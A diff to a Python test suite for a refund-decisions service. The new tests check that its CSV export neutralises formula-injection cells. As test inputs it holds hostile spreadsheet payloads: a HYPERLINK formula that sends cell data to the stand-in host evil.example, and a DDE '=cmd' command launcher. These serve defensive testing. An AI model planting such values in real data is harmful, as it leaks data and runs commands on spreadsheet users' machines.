@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from pathlib import Path
 
 import pandas as pd
@@ -11,6 +13,7 @@ from typer.testing import CliRunner
 
 from serving.__main__ import app as cli
 from serving.config import Settings
+from serving.export import FORMULA_STARTS, csv_safe
 from tests.serving.conftest import DAY, DECIDER, Clock, body
 
 URL = "/v1/refund-decisions"
@@ -80,3 +83,40 @@ def test_a_range_with_no_decision_writes_an_empty_table(
     assert frame.empty and list(frame.columns)[:3] == ["refund_id", "decided_at", "decision"]
     result = CliRunner().invoke(cli, [*args, "--since", "2025-W23-1"])  # an ISO week date
     assert result.exit_code == 0, result.output
+
+
+def test_a_csv_export_escapes_cells_a_spreadsheet_would_run(
+    client: TestClient, settings: Settings, tmp_path: Path
+) -> None:
+    # Ids and categories are the caller's: each of these starts a formula in a spreadsheet.
+    link = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    _decide(client, body(link))
+    _decide(client, body("+SUM(1)", category="@SUM(A1:A9)"))
+    _decide(client, body("-2+3", buyer_id="=cmd|'/c'!A0"))
+    _decide(client, body("plain-id"))  # a "-" inside a cell is no formula
+    args = ["export-decisions", "--audit", str(settings.audit_path), "--out"]
+    assert CliRunner().invoke(cli, [*args, str(tmp_path / "d.csv")]).exit_code == 0
+    assert CliRunner().invoke(cli, [*args, str(tmp_path / "d.parquet")]).exit_code == 0
+    text = (tmp_path / "d.csv").read_text()
+    rows = list(csv.reader(io.StringIO(text)))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells), text
+    written = pd.read_csv(tmp_path / "d.csv", keep_default_na=False)
+    assert set(written["refund_id"]) == {f"'{link}", "'+SUM(1)", "'-2+3", "plain-id"}
+    assert "'@SUM(A1:A9)" in set(written["category"])
+    assert "'=cmd|'/c'!A0" in set(written["buyer_id"])
+    # Parquet is read by programs, not spreadsheets: the values as they were.
+    parquet = pd.read_parquet(tmp_path / "d.parquet")
+    assert set(parquet["refund_id"]) == {link, "+SUM(1)", "-2+3", "plain-id"}
+    assert written["paid_fen"].tolist() == parquet["paid_fen"].tolist()  # numbers unchanged
+
+
+def test_csv_safe_escapes_tab_and_carriage_return_and_leaves_numbers() -> None:
+    frame = pd.DataFrame(
+        {"text": ["\tTAB", "\rCR", "ok", None, "'quoted"], "number": [-1.5, 2.0, -3.0, 0.0, 1.0]}
+    )
+    safe = csv_safe(frame)
+    cells = safe["text"].tolist()
+    assert cells[:3] == ["'\tTAB", "'\rCR", "ok"] and pd.isna(cells[3]) and cells[4] == "'quoted"
+    assert safe["number"].tolist() == frame["number"].tolist()
+    assert frame["text"].tolist()[0] == "\tTAB"  # the frame given is not changed
